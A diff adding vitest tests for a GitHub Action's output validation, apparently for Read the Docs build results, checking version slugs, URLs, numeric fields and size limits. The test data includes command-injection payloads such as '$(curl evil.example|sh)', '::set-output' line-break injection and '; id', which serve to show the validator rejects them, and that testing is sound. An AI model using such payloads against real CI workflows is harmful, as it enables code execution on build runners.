@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { checkedResult, plainUrl, serviceDomains } from '../src/reporting/output-values.js';
+import {
+  checkedResult,
+  MAX_OUTPUT_LENGTH,
+  OUTPUT_NAMES,
+  outputProblem,
+  plainUrl,
+  serviceDomains,
+  type OutputName,
+} from '../src/reporting/output-values.js';
 import type { ProjectResult } from '../src/operations/types.js';
 
 const BASE = 'https://app.readthedocs.org';
@@ -42,6 +50,61 @@ describe('outputs from service values', () => {
     expect(warnings).toHaveLength(5);
     expect(warnings[0]).toBe(
       "docs: the service's value for output `build-url` is not a plain http(s) URL on the service; the output is left empty",
+    );
+  });
+
+  it('empties a version that is not a slug: line breaks and `$(…)` never reach a `run:` script', () => {
+    for (const version of ['1.0\n::set-output name=x::y', '$(curl evil.example|sh)', 'latest; id', '`id`', 'a b', 'v'.repeat(256)]) {
+      const { checked, warnings } = check({ ...good, version });
+      expect(checked.version, version).toBeUndefined();
+      expect(warnings).toEqual([
+        "docs: the service's value for output `version` is not a version slug (letters, digits, `.`, `_`, `-`); the output is left empty",
+      ]);
+    }
+    for (const version of ['latest', 'stable', 'v2.0.1', '7_a', 'release-1.x'])
+      expect(check({ ...good, version }).checked.version).toBe(version);
+  });
+
+  it('checks every output by the same rules: the empty value stands for unknown', () => {
+    const accepted: [OutputName, string][] = [
+      ['build-id', '42'],
+      ['build-url', 'https://readthedocs.org/projects/docs/builds/42/'],
+      ['state', 'finished'],
+      ['success', 'false'],
+      ['commit', 'abc1234'],
+      ['version', 'latest'],
+      ['duration', '12.5'],
+      ['docs-url', 'https://docs.example.com/en/latest/'],
+      ['preview-url', 'https://docs--7.org.readthedocs.build/en/7/'],
+      ['variables', '[]'],
+      ['results', '[{"project":"docs"}]'],
+      ['plan', '[]'],
+      ['changes', '3'],
+      ['config', 'name: Docs\nredirects: []\n'],
+    ];
+    expect(accepted.map(([name]) => name).sort()).toEqual([...OUTPUT_NAMES].sort());
+    const domains = serviceDomains(BASE);
+    for (const [name, value] of accepted) {
+      expect(outputProblem(name, value, domains), name).toBeUndefined();
+      expect(outputProblem(name, '', domains), name).toBeUndefined();
+    }
+    for (const [name, value] of [
+      ['build-id', '42\n'],
+      ['build-url', 'https://evil.example/'],
+      ['success', 'yes'],
+      ['version', '1.0$(id)'],
+      ['duration', '1; id'],
+      ['results', '[{'],
+      ['changes', '$(id)'],
+    ] as [OutputName, string][]) {
+      expect(outputProblem(name, value, domains), name).toMatch(/^is not /);
+    }
+  });
+
+  it('bounds the size of every output, config included', () => {
+    expect(outputProblem('config', 'x'.repeat(MAX_OUTPUT_LENGTH), undefined)).toBeUndefined();
+    expect(outputProblem('config', 'x'.repeat(MAX_OUTPUT_LENGTH + 1), undefined)).toBe(
+      'holds 524,289 characters, more than the 524,288 one output may hold (GitHub keeps at most 1 MB of outputs, counted in UTF-16)',
     );
   });
 
